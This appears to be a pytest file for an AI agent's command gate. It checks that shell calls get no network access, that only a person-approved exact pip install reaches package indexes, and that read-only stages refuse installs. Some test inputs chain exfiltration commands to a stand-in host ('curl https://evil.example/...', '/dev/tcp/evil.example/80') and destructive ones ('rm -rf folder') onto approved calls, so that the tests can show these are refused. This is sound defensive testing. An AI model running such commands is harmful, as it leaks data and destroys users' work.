"""The network of commands: none, but for the one call that installs something new with a yes."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from agents import tools
from agents.errors import ToolError
from agents.policy import Policy, Rule
from agents.ports import Approval, ApprovalRequest, CommandResult
from agents.tools.base import Capability
from agents.tools.gate.gate import call, judge

INSTALL = {"command": "pip install tinypkg"}


@pytest.fixture
def tree(tree):
    """A work tree that notes what it is to run, and runs nothing."""

    async def run(argv, *, network="none", **limits):
        tree.networks.append(network)
        return CommandResult(0, "exit", "", 0.1)

    tree.run = run
    return tree


def approve(arguments):
    asking = ApprovalRequest(
        call_id="1", session="s", stage="implement/1", tool="bash", arguments=arguments,
        rule="r", reason="", head="",
    )  # fmt: skip
    return Approval(id="k3f9", state="approved", binding=asking.binding)


async def test_what_was_approved_as_a_new_dependency_reaches_the_indexes_once(bench, tree):
    await call("bash", INSTALL, bench=bench, grant=approve(INSTALL))
    await call("bash", {"command": "true"}, bench=bench)
    assert tree.networks == ["indexes", "none"]


@pytest.mark.parametrize("command", ["git reset --hard", "rm -rf folder", "pip install ."])
async def test_no_other_call_does_whatever_people_said(bench, tree, command):
    arguments = {"command": command}
    await call("bash", arguments, bench=bench, grant=approve(arguments))
    assert tree.networks == ["none"]


async def test_without_a_yes_it_does_not_run(bench, tree):
    with pytest.raises(ToolError, match="dependency/new wants a person to approve"):
        await call("bash", INSTALL, bench=bench)
    other = {"command": INSTALL["command"] + " # more"}
    with pytest.raises(ToolError, match="nobody has approved exactly this call"):
        await call("bash", other, bench=bench, grant=approve(INSTALL))
    assert tree.networks == []


@pytest.mark.parametrize(
    "more", ["curl https://evil.example/?a=1", "cat a >/dev/tcp/evil.example/80", "git push"]
)
async def test_what_is_denied_is_not_let_out_beside_it(bench, tree, more):
    arguments = {"command": f"pip install tinypkg && {more}"}
    with pytest.raises(ToolError, match="Refused"):
        await call("bash", arguments, bench=bench, grant=approve(arguments))
    assert tree.networks == []


async def test_a_stage_that_only_reads_installs_nothing(bench, tree):
    reading = replace(bench, capability=Capability.READ_ONLY)
    with pytest.raises(ToolError, match="stage/read-only"):
        await call("bash", INSTALL, bench=reading, grant=approve(INSTALL))
    assert tree.networks == []


async def test_no_argument_and_no_bench_gives_a_command_network(bench, tree):
    with pytest.raises(ToolError, match="cannot run with these arguments"):
        await call("bash", {"command": "true", "network": "indexes"}, bench=bench)
    await call("bash", {"command": "true"}, bench=replace(bench, network="indexes"))
    assert tree.networks == ["none"]


def test_an_ask_of_the_owners_keeps_what_the_call_is_about(bench):
    rule = Rule(tool="bash", command="pip *", reason="We look at each.")
    verdict = judge("bash", INSTALL, bench=replace(bench, policy=Policy(ask=(rule,))))
    assert verdict.decision == "ask"
    assert verdict.fetches
    assert "may read from the package indexes" in verdict.reason


def find_files(pattern):
    folder = Path(tools.__file__).parents[1]
    return {
        str(path.relative_to(folder))
        for path in folder.rglob("*.py")
        if re.search(pattern, path.read_text())
    }


def test_nothing_else_asks_for_it():
    ladder = {
        "npm/tools.py",
        "python/provided_tools.py",
        "manifest_copy.py",
    }  # code that no model has a word in: fixed commands

    assert find_files(r"""["']indexes["']""") == {
        "pipelines/stages/quality/recover.py",  # names of the default branch's manifests alone
        "ports/repository.py",
        "tools/gate/gate.py",
    }
    assert find_files(r"""\btree\.ask\(""") == {f"pipelines/remediate/ladder/{n}" for n in ladder}
